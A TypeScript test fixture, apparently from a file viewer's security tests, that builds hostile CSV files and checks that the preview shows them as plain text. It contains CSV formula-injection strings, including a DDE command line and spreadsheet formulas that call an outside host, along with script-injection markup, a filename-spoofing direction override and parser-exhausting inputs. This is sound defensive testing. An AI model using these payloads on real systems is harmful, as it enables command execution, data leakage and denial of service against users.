// Tables with formulas, without ends, and of shapes that no spreadsheet writes.
import { expect } from '../fixtures.ts';
import { file, type HostileFile, noPreview, quiet, type Seen, says, script, stored } from './hostile-file.ts';

/** Cells of plain text: nothing in them is a link or markup. */
const cells: Seen = async (viewer) => {
  const table = viewer.getByRole('table');
  await expect(table.getByText(quiet).first()).toBeVisible();
  await expect(table.locator('a, img, script, iframe, svg:not([aria-hidden])')).toHaveCount(0);
};
const of = (name: string, text: (far: string) => string | Buffer, seen = cells): HostileFile =>
  file(name, text, seen);
const row = `${quiet},b\n`;

export const tables: readonly HostileFile[] = [
  of(
    'formulas.csv',
    (far) =>
      `name,value\n${quiet},=HYPERLINK("${far}/a")\n=cmd|' /C calc'!A0,+1+1\n@SUM(1),-2+3\n\t=1,\r=2\n=WEBSERVICE("${far}/b"),=IMPORTXML("${far}/c")\n`,
  ),
  of(
    'markup.csv',
    (far) =>
      `name,value\n${quiet},<img src=x onerror="${script(far, 'csv')}">\n<script>${script(far, 'cell')}</script>,[a](javascript:1)\n`,
  ),
  of(
    'column-markup.csv',
    (far) => `<script>${script(far, 'column')}</script>,"""><img src=${far}/x>"\n${row}`,
  ),
  of('quote-unclosed.csv', () => `a,b\n${quiet},"${'x\n'.repeat(50_000)}`),
  of('quotes-only.csv', () => `a,b\n${row}${'"'.repeat(500_000)}`),
  of('quotes-wild.csv', () => `a,b\n${row}${'"a"b"c,"\n'.repeat(50_000)}`),
  of('one-row.csv', () => `${quiet},${'x'.repeat(5_000_000)}`),
  of('million-columns.csv', () => `${quiet}${','.repeat(1_000_000)}\n${row}`),
  of('million-columns-each.csv', () => `a,b\n${row}${`${','.repeat(100_000)}\n`.repeat(10)}`),
  of('million-rows.csv', () => `a,b\n${row}${'\n'.repeat(1_000_000)}`),
  of('ragged.csv', () => `a,b\n${row}${Array.from({ length: 300 }, (_, n) => ','.repeat(n)).join('\n')}`),
  of('returns.csv', () => `a,b\r${quiet},b\r${'x,y\r'.repeat(1000)}`, says(/Quiet words/)),
  of('nulls.csv', () => `a,b\n${quiet},\0\n`, noPreview),
  of('null-late.csv', () => `a,b\n${row}${'x,y\n'.repeat(30_000)}\0,\0\n`),
  of(
    'mark-lies.csv',
    () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`a,b\n${row}`)]),
    stored('utf-16le'),
  ),
  of('wide.csv', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`a,b\n${row}`, 'utf16le')])),
  of('no-utf8.csv', () =>
    Buffer.concat([Buffer.from(`a,b\n${row}`), Buffer.from([0xff, 0x2c, 0xc0, 0xaf, 0x0a])]),
  ),
  of('directions.csv', () => `a,b\n${row}\u202efdp.exe,\u2066\u2067x\n`),
  of('numbers.csv', () => `a,b\n${row}1e999,-1e999\n${'9'.repeat(400)},NaN\n`),
  of('number-shape.csv', () => `a,b\n${row}${'1,111'.repeat(20_000)}x;${'1'.repeat(50_000)}x,2\n`),
  of('separator.csv', () => `sep=;\na;b\n${quiet};b\n`, says(/Quiet words/)),
  of('proto.csv', () => `__proto__,constructor\n${row}`),
  of('wide.tsv', () => `a\tb\n${quiet}\t=1+1\n${'\t'.repeat(100_000)}\n`),
  of('program.csv', () => Buffer.from('7f454c46020101000000000000000000', 'hex'), noPreview),
  of('empty.csv', () => '', says('0 rows')),
];
